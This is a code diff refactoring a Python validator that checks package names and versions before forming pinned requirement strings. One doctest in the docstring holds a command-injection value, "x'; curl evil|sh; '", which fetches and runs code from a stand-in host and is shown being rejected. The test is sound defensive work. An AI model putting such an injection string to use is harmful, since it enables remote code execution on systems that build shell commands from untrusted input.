@@ -10,15 +10,14 @@ from dataclasses import dataclass
 from typing import Any
 
 # PEP 508 and PEP 440, which pip holds names and versions against.
-_NAME = re.compile(r"[a-z0-9]([a-z0-9._-]*[a-z0-9])?", re.ASCII | re.IGNORECASE)
-_VERSION = re.compile(
+_NAME = r"[a-z0-9]([a-z0-9._-]*[a-z0-9])?"
+_VERSION = (
     r"v?(\d+!)?\d+(\.\d+)*"
     r"([-_.]?(alpha|a|beta|b|preview|pre|c|rc)[-_.]?\d*)?"
     r"(-\d+|[-_.]?(post|rev|r)[-_.]?\d*)?([-_.]?dev[-_.]?\d*)?"
-    r"(\+[a-z0-9]+([-_.][a-z0-9]+)*)?",
-    re.ASCII | re.IGNORECASE,
+    r"(\+[a-z0-9]+([-_.][a-z0-9]+)*)?"
 )
-_ORDINARY = re.compile(r"\w[\w .+!-]*", re.ASCII)
+_ORDINARY = r"\w[\w .+!-]*"
 
 
 @dataclass(frozen=True)
@@ -45,7 +44,8 @@ def requirement(distribution: str, version: str) -> str | None:
     'charrnn-irnn==0.1.0'
     >>> requirement("x'; curl evil|sh; '", "0.1.0")
     """
-    if _NAME.fullmatch(distribution) and _VERSION.fullmatch(version):
+    pinned = ((_NAME, distribution), (_VERSION, version))
+    if all(re.fullmatch(pattern, text, re.ASCII | re.IGNORECASE) for pattern, text in pinned):
         return f"{distribution}=={version}"
     return None
 
@@ -57,7 +57,8 @@ def whose(distribution: str, version: str) -> str:
     ('charrnn-irnn 0.1.0', "'x; y' 0.1.0")
     """
     return " ".join(
-        text if _ORDINARY.fullmatch(text) else repr(text) for text in (distribution, version)
+        text if re.fullmatch(_ORDINARY, text, re.ASCII) else repr(text)
+        for text in (distribution, version)
     )
 
 
